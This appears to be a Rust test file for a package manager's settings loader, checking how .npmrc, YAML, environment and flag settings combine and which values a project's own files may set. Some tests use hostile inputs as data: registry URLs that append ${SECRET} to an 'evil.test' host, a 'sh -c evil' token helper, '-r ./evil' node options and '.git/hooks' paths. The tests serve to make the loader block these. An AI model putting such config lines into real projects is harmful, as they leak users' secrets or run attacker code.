use super::registries::{Credentials, Secret};
use super::table::{KEYS, Kind};
use super::value::{parse_url, split_list};
use super::{Flags, Frozen, Groups, ImportMethod, Reporter, Settings, Sources, VirtualStore, fingerprint};
use crate::project::env::Env;
use crate::project::workspace::Workspace;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use tempfile::TempDir;

/// A home folder with a project in it, and an environment that shows nothing else.
struct Place {
    top: TempDir,
    env: Vec<(String, String)>,
    flags: Flags,
}

impl Place {
    fn new(files: &[(&str, &str)]) -> Place {
        let top = tempfile::tempdir().expect("a folder");
        fs::create_dir_all(top.path().join("home/p")).expect("a folder");
        fs::write(top.path().join("home/p/package.json"), "{}").expect("a file");
        for (path, text) in files {
            let path = top.path().join("home").join(path);
            fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
            fs::write(path, text).expect("a file");
        }
        Place { top, env: Vec::new(), flags: Flags::default() }
    }

    fn env(mut self, variables: &[(&str, &str)]) -> Place {
        self.env.extend(variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
        self
    }

    fn flags(mut self, flags: &[(&str, &str)]) -> Place {
        self.flags.0.extend(flags.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
        self
    }

    fn home(&self) -> PathBuf {
        self.top.path().join("home")
    }

    fn try_load(&self) -> Result<Settings, String> {
        let home = self.home();
        let own = [("HOME".to_owned(), home.to_str().expect("text").to_owned())];
        let env: Env = own.into_iter().chain(self.env.iter().cloned()).collect();
        let workspace = Workspace::load(&home.join("p")).expect("a project");
        let sources = Sources { flags: &self.flags, env: &env, cwd: &home.join("p"), workspace: Some(&workspace) };
        Settings::load(&sources).map_err(|error| error.to_string().replace(home.to_str().expect("text"), "~"))
    }

    fn load(&self) -> Settings {
        self.try_load().expect("settings")
    }

    fn warnings(&self) -> Vec<String> {
        let home = self.home();
        self.load().warnings.iter().map(|warning| warning.to_string().replace(home.to_str().expect("text"), "~")).collect()
    }

    fn registry(&self) -> String {
        self.load().registries.default.map(|url| url.to_string()).unwrap_or_default()
    }
}

#[test]
fn every_default_fits_its_type() {
    for key in KEYS {
        match key.kind {
            Kind::Flag => assert!(matches!(key.default, "" | "true" | "false"), "{}", key.name),
            Kind::Number(min, max) => assert!((min..=max).contains(&key.default.parse().expect("a number")), "{}", key.name),
            Kind::Choice(words) => assert!(words.contains(&key.default), "{}", key.name),
            _ => {}
        }
    }
    let settings = Place::new(&[]).load();
    assert_eq!(settings.registries.default, None);
    assert_eq!((settings.network.concurrency, settings.network.retries, settings.network.timeout), (None, 2, Duration::from_secs(60)));
    assert_eq!(settings.groups, Groups { prod: true, dev: true, optional: true });
    assert_eq!((settings.layout.hoist_pattern, settings.layout.public_hoist_pattern), (vec!["*".to_owned()], vec![]));
    assert_eq!((settings.layout.modules_dir.as_str(), settings.layout.import_method), ("node_modules", ImportMethod::Auto));
    assert_eq!((settings.reporter, settings.lockfile.frozen, settings.lockfile.enabled), (Reporter::Default, Frozen::No, true));
    assert!(settings.resolution.auto_install_peers && settings.network.strict_ssl && !settings.scripts.ignore);
    assert!(settings.warnings.is_empty());
}

#[test]
fn the_stronger_source_wins() {
    let sources: [(&str, &str); 5] = [
        ("p/.npmrc", "registry=http://project.test/"),
        (".npmrc", "registry=http://user.test/\nprefix=~/global\n"),
        ("global/etc/npmrc", "registry=http://global.test/"),
        ("p/pnpm-workspace.yaml", "registry: http://yaml.test/\n"),
        ("p/package.json", r#"{"pnpm":{"registry":"http://manifest.test/"}}"#),
    ];
    let env =
        [("DEKA_REGISTRY", "http://deka.test/"), ("npm_config_registry", "http://npm.test/"), ("PNPM_CONFIG_REGISTRY", "http://pnpm.test")];
    let all = Place::new(&sources).env(&env).flags(&[("registry", "http://flag.test/a")]);
    assert_eq!(all.registry(), "http://flag.test/a/");
    for (from, want) in
        ["http://deka.test/", "http://pnpm.test/", "http://npm.test/"].iter().enumerate().map(|(n, want)| ([0, 2, 1][n], want))
    {
        let left = match from {
            0 => &env[..],
            2 => &env[1..],
            _ => &env[1..2],
        };
        assert_eq!(Place::new(&sources).env(left).registry(), *want);
    }
    // The prefix names the global file, so it is set outside of the files that are taken away one by one.
    for (from, want) in ["http://project.test/", "http://user.test/", "http://global.test/", "http://yaml.test/", "http://manifest.test/"]
        .iter()
        .enumerate()
    {
        let place = Place::new(&sources[from..]);
        let prefix = place.home().join("global");
        assert_eq!(place.env(&[("npm_config_prefix", prefix.to_str().expect("text"))]).registry(), *want);
    }
    assert_eq!(Place::new(&[]).registry(), "");
}

#[test]
fn names_and_values_are_read_as_people_write_them() {
    let npmrc = "hoist-pattern[]=*a*\nhoist-pattern[]=*b*\nshamefully-hoist\nnetwork-concurrency = 3 ; few\nlibc=null\nproduction=true\nunknown=${NOT_SET}";
    let yaml = "autoInstallPeers: false\nfetchRetries: 5\nsupportedArchitectures:\n  os: [current, win32]\n  cpu: [x64]\nregistries:\n  default: http://y.test\n  '@s': http://s.test/x\nenginesStrict: 1\n";
    let place = Place::new(&[("p/.npmrc", npmrc), ("p/pnpm-workspace.yaml", yaml)])
        .env(&[
            ("npm_config_engine_strict", "true"),
            ("NPM_CONFIG_PACKAGE_IMPORT_METHOD", "clone"),
            ("DEKA_STORE_DIR", "/s"),
            ("DEKA_OFFLINE", ""),
        ])
        .flags(&[("virtual-store", "global"), ("public-hoist-pattern", "*x*,@y/{a,b} z"), ("reporter", "ndjson"), ("cpu", "arm64")]);
    let settings = place.load();
    assert_eq!(settings.layout.hoist_pattern, ["*a*", "*b*"]);
    assert_eq!(settings.layout.public_hoist_pattern, ["*"], "shamefully-hoist means everything");
    assert_eq!((settings.layout.virtual_store, settings.layout.import_method), (VirtualStore::Global, ImportMethod::Reflink));
    assert_eq!((settings.network.concurrency, settings.network.retries), (Some(3), 5));
    assert!(!settings.resolution.auto_install_peers && settings.resolution.engine_strict && !settings.network.offline);
    assert_eq!(
        (settings.architectures.os, settings.architectures.cpu),
        (vec!["current".to_owned(), "win32".to_owned()], vec!["arm64".to_owned()])
    );
    assert_eq!(settings.registries.default.map(|url| url.to_string()).as_deref(), Some("http://y.test/"));
    assert_eq!(settings.registries.scopes["@s"].as_str(), "http://s.test/x/");
    assert_eq!((settings.store_dir, settings.reporter), (PathBuf::from("/s"), Reporter::Ndjson));
    assert!(!settings.groups.dev && settings.warnings.is_empty());
    assert_eq!(split_list("*x*,@y/{a,b} z\n\n!w"), ["*x*", "@y/{a,b}", "z", "!w"]);
}

#[test]
fn a_projects_own_files_may_not_do_what_harms_their_user() {
    for name in ["proxy", "https-proxy", "noproxy", "cafile", "ca", "strict-ssl", "cert", "key", "script-shell", "node-options"]
        .into_iter()
        .chain(["userconfig", "globalconfig", "prefix", "cache-dir", "user-agent", "//h.test/:tokenHelper", "//h.test/:certfile"])
    {
        let place = Place::new(&[("p/.npmrc", &format!("{name}=/evil"))]);
        let want = format!("`{name}` in ~/p/.npmrc:1 is ignored: only your own settings may have it, not a project's");
        assert_eq!(place.warnings(), [want]);
        assert!(place.load().registries.auth.is_empty());
    }
    let yaml = "scriptShell: /evil\nhttpsProxy: http://evil.test\nstrictSsl: false\n";
    let place = Place::new(&[("p/pnpm-workspace.yaml", yaml), ("p/package.json", r#"{"pnpm":{"nodeOptions":"-r ./evil"}}"#)]);
    assert_eq!(place.warnings().len(), 4);
    let settings = place.load();
    assert!(settings.network.strict_ssl && settings.network.proxy.https.is_none() && settings.scripts.shell.is_none());
    // A user's own file may, also where the project says otherwise.
    let place = Place::new(&[(".npmrc", "script-shell=/bin/bash\nignore-scripts=true"), ("p/.npmrc", "ignore-scripts=false")]);
    let settings = place.load();
    assert_eq!(settings.scripts.shell.as_deref(), Some(Path::new("/bin/bash")));
    assert!(settings.scripts.ignore, "a project cannot switch scripts on that its user has switched off");
    assert!(Place::new(&[("p/.npmrc", "ignore-scripts=true")]).load().scripts.ignore);
}

#[test]
fn a_projects_own_files_do_not_see_the_environment() {
    let env = [("SECRET", "s3cret")];
    for line in [
        "registry=https://evil.test/${SECRET}/",
        "@s:registry=https://evil.test/${SECRET}/",
        "//evil.test/:_authToken=${SECRET}",
        "store-dir=/x/${SECRET}",
        "//${SECRET}.test/:_auth=x",
    ] {
        let place = Place::new(&[("p/.npmrc", line)]).env(&env);
        assert_eq!(place.warnings().len(), 1, "{line}");
        assert!(!format!("{:?}", place.load()).contains("s3cret"), "{line}");
    }
    let place = Place::new(&[("p/pnpm-workspace.yaml", "registry: https://evil.test/${SECRET}\n")]).env(&env);
    assert_eq!(place.registry(), "");
    assert_eq!(
        place.warnings(),
        ["`registry` in ~/p/pnpm-workspace.yaml is ignored: a project's file may not read the environment; move it to your own .npmrc"]
    );
}

#[test]
fn the_users_files_see_the_environment() {
    let npmrc = "registry=http://${H}/\n//h.test/:_authToken=${TOKEN}\n//i.test/:_authToken=${GONE}\n//j.test/:_authToken=${GONE-d}\n";
    let place = Place::new(&[(".npmrc", npmrc)]).env(&[("H", "h.test"), ("TOKEN", "t0ken")]);
    let settings = place.load();
    assert_eq!(settings.registries.default.as_ref().map(|url| url.as_str()), Some("http://h.test/"));
    let auth: Vec<_> = settings.registries.auth.iter().map(|auth| (auth.address.as_str(), auth.credentials.clone())).collect();
    let token = |text: &str| Some(Credentials::Token(Secret(text.to_owned())));
    assert_eq!(auth, [("//h.test/", token("t0ken")), ("//j.test/", token("d"))]);
    assert_eq!(place.warnings(), ["`//i.test/:_authToken` in ~/.npmrc:3 is ignored: the variable GONE is not set"]);
    assert_eq!(settings.secrets, ["GONE", "TOKEN"]);
    assert_eq!(settings.inputs.variables, ["GONE", "H", "TOKEN"]);
    assert!(!format!("{settings:?}").contains("t0ken"), "a secret is never shown");
}

#[test]
fn credentials_come_in_every_form_and_only_with_an_address() {
    let npmrc = "//a.test/:username=me\n//a.test/:_password=cHc=\n//b.test:81/x:_auth=bWU6cHc=\n//c.test/:tokenHelper=/bin/helper\n\
        //d.test/:certfile=~/c.pem\n//d.test/:keyfile=k.pem\n//e.test/:username=alone\n_authToken=loose\n";
    let place = Place::new(&[(".npmrc", npmrc)]).env(&[("npm_config_//f.test/:_authToken", "envtoken")]);
    let settings = place.load();
    let auth = &settings.registries.auth;
    let addresses: Vec<&str> = auth.iter().map(|auth| auth.address.as_str()).collect();
    assert_eq!(addresses, ["//a.test/", "//b.test:81/x/", "//c.test/", "//d.test/", "//f.test/"]);
    assert_eq!(auth[0].credentials, Some(Credentials::Login { user: "me".to_owned(), password: Secret("pw".to_owned()) }));
    assert_eq!(auth[1].credentials, Some(Credentials::Basic(Secret("bWU6cHc=".to_owned()))));
    assert_eq!(auth[2].credentials, Some(Credentials::Helper("/bin/helper".into())));
    let certificate = auth[3].certificate.as_ref().expect("a certificate");
    assert_eq!((&certificate.cert, &certificate.key), (&place.home().join("c.pem"), &place.home().join("k.pem")));
    assert_eq!(place.warnings(), ["`_authToken` in ~/.npmrc:8 is ignored: it does not say for which registry; write `//host/:_authToken`"]);
    let wrong = Place::new(&[(".npmrc", "//a.test/:tokenHelper=sh -c evil")]).try_load().expect_err("no bare path");
    assert!(wrong.contains("the absolute path of a program"), "{wrong}");
    let wrong = Place::new(&[(".npmrc", "//a.test/:username=me\n//a.test/:_password=s3cret!")]).try_load().expect_err("no base64");
    assert_eq!(wrong, "the setting `//a.test/:_password` must be base64, but ~/.npmrc:2 says `***`");
}

#[test]
fn wrong_values_name_who_gave_them() {
    let file = |text: &str| Place::new(&[("p/.npmrc", text)]);
    for (place, want) in [
        (
            file("a=b\nnetwork-concurrency=abc"),
            "the setting `network-concurrency` must be a whole number from 0 to 1000, but ~/p/.npmrc:2 says `abc`",
        ),
        (file("fetch-retries=-1"), "the setting `fetch-retries` must be a whole number from 0 to 100, but ~/p/.npmrc:1 says `-1`"),
        (file("hoist=perhaps"), "the setting `hoist` must be `true` or `false`, but ~/p/.npmrc:1 says `perhaps`"),
        (file("registry=ftp://h.test/"), "the setting `registry` must be an http or https address, but ~/p/.npmrc:1 says `ftp://h.test/`"),
        (file("@s:registry=x"), "the setting `@s:registry` must be an http or https address, but ~/p/.npmrc:1 says `x`"),
        (file("modules-dir=../../x"), "the setting `modules-dir` must be a folder inside the project, but ~/p/.npmrc:1 says `../../x`"),
        (file("modules-dir=."), "the setting `modules-dir` must be a folder inside the project, but ~/p/.npmrc:1 says `.`"),
        (
            file("virtual-store-dir=../x"),
            "the setting `virtual-store-dir` must be a folder inside the project, but ~/p/.npmrc:1 says `../x`",
        ),
        (
            file("modules-dir=.git/hooks"),
            "the setting `modules-dir` must be a folder inside the project, but ~/p/.npmrc:1 says `.git/hooks`",
        ),
        (
            Place::new(&[]).flags(&[("script-shell", "no-such-shell")]),
            "the setting `script-shell` must be a program that is on the PATH, but the command line says `no-such-shell`",
        ),
        (
            Place::new(&[]).env(&[("DEKA_REPORTER", "loud")]),
            "the setting `reporter` must be one of `default`, `append-only`, `ndjson`, `silent`, but the variable DEKA_REPORTER says `loud`",
        ),
        (
            Place::new(&[]).flags(&[("package-import-method", "teleport")]),
            "the setting `package-import-method` must be one of `auto`, `reflink`, `hardlink`, `copy`, but the command line says `teleport`",
        ),
        (
            Place::new(&[("p/pnpm-workspace.yaml", "supportedArchitectures: x\n")]),
            "the setting `supported-architectures` must be an object with the lists `os`, `cpu` and `libc`, but ~/p/pnpm-workspace.yaml says `x`",
        ),
    ] {
        assert_eq!(place.try_load().expect_err("a wrong value"), want);
    }
    let unused = file("network-concurrency=abc").flags(&[("network-concurrency", "8")]);
    assert_eq!(unused.load().network.concurrency, Some(8), "a wrong value that nobody uses disturbs nobody");
}

#[test]
fn groups_follow_flags_then_environment() {
    for (flags, env, want) in [
        (&[][..], &[][..], "prod dev optional"),
        (&[("prod", "true")], &[], "prod optional"),
        (&[("dev", "true")], &[], "dev"),
        (&[("optional", "false")], &[], "prod dev"),
        (&[("prod", "true"), ("optional", "false")], &[], "prod"),
        (&[], &[("NODE_ENV", "production")], "prod dev optional"),
        (&[], &[("npm_config_omit", "dev optional")], "prod"),
        (&[("prod", "true")], &[("npm_config_include", "dev")], "prod dev optional"),
    ] {
        let groups = Place::new(&[]).flags(flags).env(env).load().groups;
        let shown = [(groups.prod, "prod"), (groups.dev, "dev"), (groups.optional, "optional")];
        let shown: Vec<&str> = shown.into_iter().filter_map(|(on, name)| on.then_some(name)).collect();
        assert_eq!(shown.join(" "), want, "{flags:?} {env:?}");
    }
}

#[test]
fn the_lockfile_is_frozen_where_ci_is_set() {
    let frozen = |flags: &[(&str, &str)], env: &[(&str, &str)]| Place::new(&[]).flags(flags).env(env).load().lockfile.frozen;
    assert_eq!(frozen(&[], &[("CI", "true")]), Frozen::WhenThere);
    assert_eq!(frozen(&[], &[("CI", "false")]), Frozen::No);
    assert_eq!(frozen(&[("frozen-lockfile", "false")], &[("CI", "1")]), Frozen::No);
    assert_eq!(frozen(&[("frozen-lockfile", "true")], &[]), Frozen::Yes);
}

#[test]
fn proxies_come_from_settings_then_from_common_variables() {
    let proxies = |npmrc: &str, env: &[(&str, &str)]| {
        let proxy = Place::new(&[(".npmrc", npmrc)]).env(env).load().network.proxy;
        (proxy.http.unwrap_or_default(), proxy.https.unwrap_or_default(), proxy.except.join(" "))
    };
    let shown = |http: &str, https: &str, except: &str| (http.to_owned(), https.to_owned(), except.to_owned());
    assert_eq!(proxies("", &[]), shown("", "", ""));
    assert_eq!(proxies("proxy=http://p", &[("HTTPS_PROXY", "http://e")]), shown("http://p", "http://p", ""));
    assert_eq!(proxies("https-proxy=http://s\nnoproxy=a,b", &[("NO_PROXY", "c")]), shown("", "http://s", "a b"));
    assert_eq!(
        proxies("", &[("HTTP_PROXY", "http://1"), ("https_proxy", "http://2"), ("NO_PROXY", "x, y")]),
        shown("http://1", "http://2", "x y")
    );
    assert_eq!(proxies("", &[("ALL_PROXY", "socks5://a")]), shown("socks5://a", "socks5://a", ""));
    assert_eq!(proxies("proxy=false\n", &[("HTTP_PROXY", "http://1")]), shown("", "", ""));
}

#[test]
fn everything_kept_for_a_user_is_below_home_or_xdg() {
    let plain = Place::new(&[]);
    let settings = plain.load();
    assert!(settings.store_dir.starts_with(plain.home()) && settings.store_dir.ends_with("deka/store/v1"));
    assert!(settings.cache_dir.starts_with(plain.home()) && settings.cache_dir.ends_with("deka"));
    let settings = Place::new(&[]).env(&[("XDG_DATA_HOME", "/d"), ("XDG_CACHE_HOME", "relative")]).load();
    assert_eq!(settings.store_dir, Path::new("/d/deka/store/v1"));
    assert!(settings.cache_dir.is_absolute());
    let homeless = Sources { flags: &Flags::default(), env: &Env::default(), cwd: Path::new("/"), workspace: None };
    assert_eq!(Settings::load(&homeless).expect_err("no home").to_string(), "cannot tell where to keep the store: HOME is not set");
}

#[test]
fn inputs_name_every_file_that_was_looked_for() {
    let place = Place::new(&[(".npmrc", "a=b")]).env(&[("npm_config_globalconfig", "/no/such/npmrc")]);
    let home = place.home();
    let files: Vec<String> = place
        .load()
        .inputs
        .files
        .iter()
        .map(|stamp| format!("{} {}", stamp.path.display().to_string().replace(home.to_str().expect("text"), "~"), stamp.stat.is_some()))
        .collect();
    assert_eq!(
        files,
        ["~/p/.npmrc false", "~/.npmrc true", "/no/such/npmrc false", "~/p/pnpm-workspace.yaml false", "~/p/package.json true"]
    );
}

#[test]
fn the_fingerprint_changes_with_what_counts_and_nothing_else() {
    let of = |flags: &[(&str, &str)], env: &[(&str, &str)]| {
        let flags = Flags(flags.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect());
        fingerprint(&Env::from_iter(env.iter().copied()), &flags, &["MINE".to_owned()])
    };
    let base = of(&[], &[]);
    assert_eq!(base, of(&[("reporter", "silent"), ("offline", "true")], &[("PATH", "/bin"), ("npm_config_cache", "x"), ("CI", "1")]));
    for (flags, env) in [
        (&[("prod", "true")][..], &[][..]),
        (&[], &[("npm_config_hoist", "false")]),
        (&[], &[("DEKA_STORE_DIR", "/x")]),
        (&[], &[("npm_config_@s:registry", "http://s.test")]),
        (&[], &[("XDG_DATA_HOME", "/data")]),
        (&[], &[("MINE", "1")]),
    ] {
        assert_ne!(base, of(flags, env), "{flags:?} {env:?}");
    }
}

#[test]
fn loads_in_less_than_a_millisecond() {
    let npmrc = "registry=http://h.test/\n//h.test/:_authToken=t\nhoist-pattern[]=*\n";
    let place = Place::new(&[(".npmrc", npmrc), ("p/.npmrc", npmrc), ("p/pnpm-workspace.yaml", "autoInstallPeers: true\n")]);
    let best = (0..30).map(|_| {
        let start = Instant::now();
        place.load();
        start.elapsed()
    });
    // Without optimisation, and with other tests beside it.
    assert!(best.min().expect("thirty") < Duration::from_millis(5));
}

#[test]
fn addresses_end_in_a_slash() {
    let raw = super::Raw { value: super::RawValue::Text(String::new()), origin: super::Origin::Flag, owner: super::Owner::User };
    for (text, want) in [
        ("http://h.test", Some("http://h.test/")),
        ("https://h.test:81/a", Some("https://h.test:81/a/")),
        ("h.test", None),
        ("file:///x", None),
    ] {
        assert_eq!(parse_url("registry", &raw, text).ok().map(|url| url.to_string()).as_deref(), want);
    }
}
